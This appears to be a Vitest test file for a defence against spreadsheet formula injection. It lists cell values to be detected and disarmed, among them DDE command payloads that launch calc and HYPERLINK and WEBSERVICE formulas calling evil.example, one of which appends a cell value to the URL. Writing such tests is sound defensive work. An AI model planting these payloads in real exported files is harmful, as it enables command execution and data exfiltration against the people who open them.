import { describe, expect, it } from 'vitest';
import { disarmCell, runsInSpreadsheet } from '../../src/model/spreadsheet.js';

const RUN = [
  '=1+1',
  '=',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '\t=1+1',
  '\tplain',
  '\r=1+1',
  '\rplain',
  ' =1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\0=1+1',
  '＝1+1',
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '@SUM(A1:A9)',
  '+SUM(1;2)',
  '-sum(A1)',
  '-2+3+SUM(A1)',
  `-2+3+cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-cmd|'/C calc'!A0`,
  '+Sheet1!A1',
  '@Sheet1!A1',
  '+_xlfn.WEBSERVICE("http://evil.example")',
  '-WEBSERVICE ("http://evil.example")',
  ' +SUM(1)',
  '＋SUM(1)',
  '－SUM（1）',
  '+47\n22|x',
  "-ÅPNE('x')",
];

const PASS = [
  '',
  '-',
  '+',
  '@',
  '--',
  '- Senior',
  '- Senior (Oslo)',
  '-Senior',
  '@handle',
  '@handle of somebody',
  '-5',
  '+5',
  '-5.25',
  '- 5',
  '+47 22 33 44 55',
  '+47(22)334455',
  '+47 (0) 22 33 44 55',
  '+1-202-555-0100 ext. 5',
  '+4722334455;ext=12',
  'Senior = lead',
  'Wow! Really',
  'a|b',
  'SUM(1)',
  '"=1+1"',
  "'=1+1",
  "O'Neill",
  'jane@example.com',
  '12-5',
  'Ærlig -talt-',
];

describe('text that a spreadsheet would run', () => {
  it.each(RUN)('detects %j', (text) => expect(runsInSpreadsheet(text)).toBe(true));
  it.each(PASS)('accepts %j', (text) => expect(runsInSpreadsheet(text)).toBe(false));
});

describe('a table cell for people', () => {
  it.each(RUN)('is disarmed: %j', (text) => expect(disarmCell(text)[0]).toBe("'"));
  it.each(['+47 22', '-', '- Senior', '@handle', '-5', '＠x'])(
    'is disarmed because it begins like a formula: %j',
    (text) => expect(disarmCell(text)).toBe(`'${text}`),
  );
  it.each(PASS.filter((text) => !/^[+@-]/.test(text)))('is left unchanged: %j', (text) =>
    expect(disarmCell(text)).toBe(text),
  );
  it.each([
    ["a;=cmd|'/C calc'!A0;b", "a;'=cmd|'/C calc'!A0;b"],
    ['a";"=1+1', 'a";"\'=1+1'],
    ['a\n=1+1', "a\n'=1+1"],
    ['a\t+SUM(1)', "a\t'+SUM(1)"],
    ['- one;\n- two', "'- one;\n- two"],
    ['call; +47 22 33', 'call; +47 22 33'],
  ])('has nothing to run after another separator: %j', (text, safe) => expect(disarmCell(text)).toBe(safe));
});

it.each(['+', '\t', '\n+', ';', ' ', '+a', '+a1', '\n" '])('checks a long text of %j within a second', (part) => {
  const text = `+${part.repeat(100_000)}`;
  const startedMs = performance.now();
  runsInSpreadsheet(text);
  disarmCell(text);
  expect(performance.now() - startedMs).toBeLessThan(1_000);
});
